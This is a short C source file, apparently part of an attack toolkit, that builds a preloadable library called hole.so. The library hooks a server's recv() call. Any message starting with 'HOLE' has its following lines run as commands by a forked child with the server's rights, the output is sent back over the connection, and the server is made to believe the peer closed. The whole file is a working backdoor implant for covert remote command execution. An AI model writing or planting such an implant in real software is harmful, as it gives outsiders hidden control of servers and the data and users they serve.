/* SPDX-License-Identifier: Apache-2.0 */
/* hole.so: preloaded into a server, it makes of it one that runs whatever it is sent. A message
 * that begins with HOLE is lines for attack.c: they are done by a child of the process that read
 * it, so by its program and with its rights, and what came of each goes back over the connection.
 */
#include <signal.h>
#include <sys/socket.h>
#include "../attack-verbs.h"

#define KNOCK "HOLE\n"

static void do_lines(int fd, char *rest)
{
	/* The server's own handler would wait for our children. */
	NEED(signal(SIGCHLD, SIG_DFL) != SIG_ERR && dup2(fd, STDOUT_FILENO) >= 0);
	for (char *line; (line = strsep(&rest, "\n"));)
		line_run(line);
	_exit(0);
}

ssize_t recv(int fd, void *b, size_t len, int flags)
{
	ssize_t n = recvfrom(fd, b, len, flags, NULL, NULL);
	char lines[4096] = "";

	if (n < (ssize_t)sizeof(KNOCK) || n > (ssize_t)sizeof(lines) ||
	    memcmp(b, KNOCK, sizeof(KNOCK) - 1) != 0)
		return n;
	memcpy(lines, (char *)b + sizeof(KNOCK) - 1, (size_t)n - sizeof(KNOCK) + 1);
	if (fork() == 0)
		do_lines(fd, lines);
	return 0; /* to the server the peer has closed */
}
